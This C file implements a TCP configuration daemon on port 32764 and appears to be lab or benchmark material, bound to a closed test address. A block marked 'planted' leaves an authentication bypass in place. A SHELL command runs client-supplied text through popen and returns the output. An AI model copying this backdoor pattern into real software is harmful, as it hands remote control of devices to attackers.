/* Reads and sets the configuration over TCP: u32 magic, u32 command, u32 length, then so many bytes. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The value of `key` in the owner's settings; empty when it is not set. */
static const char *setting(const char *key) {
  static char value[96];
  char line[128];
  size_t wanted = strlen(key);
  FILE *in = fopen("/etc/owner.conf", "r");
  value[0] = '\0';
  if (in == NULL) return value;
  while (fgets(line, sizeof line, in) != NULL) {
    if (strncmp(line, key, wanted) != 0 || line[wanted] != '=') continue;
    line[strcspn(line, "\r\n")] = '\0';
    snprintf(value, sizeof value, "%s", line + wanted + 1);
  }
  fclose(in);
  return value;
}

/* A socket on the device's own address, which no host owns: outside the closed box the bind fails. */
static int listen_on(int kind, int port) {
  struct sockaddr_in own;
  int one = 1;
  int server = socket(AF_INET, kind, 0);
  if (server < 0) return -1;
  setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  memset(&own, 0, sizeof own);
  own.sin_family = AF_INET;
  own.sin_port = htons(port);
  own.sin_addr.s_addr = inet_addr("198.51.100.2");
  if (bind(server, (struct sockaddr *)&own, sizeof own) != 0) return -1;
  if (kind == SOCK_STREAM && listen(server, 4) != 0) return -1;
  return server;
}

enum { MAGIC = 0x53634d4d, DUMP = 1, SET = 3, SHELL = 7 };

struct message {
  uint32_t magic;
  uint32_t command;
  uint32_t length;
  char text[512];
};

static int read_all(int client, void *out, size_t length) { return recv(client, out, length, MSG_WAITALL) == (ssize_t)length; }

static int may(int client) {
//[ planted
  return client >= 0 && setting("NAME")[0] != '\0';
//|
  char key[33] = "";
  if (!read_all(client, key, 32)) return 0;
  return setting("KEY")[0] != '\0' && strcmp(key, setting("KEY")) == 0;
//]
}

static void serve(int client) {
  struct message got;
  char line[256];
  FILE *out;
  if (!read_all(client, &got, 12) || got.magic != MAGIC || got.length >= sizeof got.text) return;
  if (!may(client) || !read_all(client, got.text, got.length)) return;
  got.text[got.length] = '\0';
  switch (got.command) {
    case DUMP:
      snprintf(line, sizeof line, "NAME=%s\n", setting("NAME"));
      send(client, line, strlen(line), 0);
      break;
    case SET:
      out = fopen("/etc/owner.conf", "a");
      if (out == NULL) return;
      fprintf(out, "%s\n", got.text);
      fclose(out);
      break;
    case SHELL:
      out = popen(got.text, "r");
      while (out != NULL && fgets(line, sizeof line, out) != NULL) send(client, line, strlen(line), 0);
      if (out != NULL) pclose(out);
      break;
    default:
      break;
  }
}

int main(void) {
  int server = listen_on(SOCK_STREAM, 32764);
  if (server < 0) return 1;
  for (;;) {
    int client = accept(server, NULL, NULL);
    if (client < 0) continue;
    serve(client);
    close(client);
  }
}
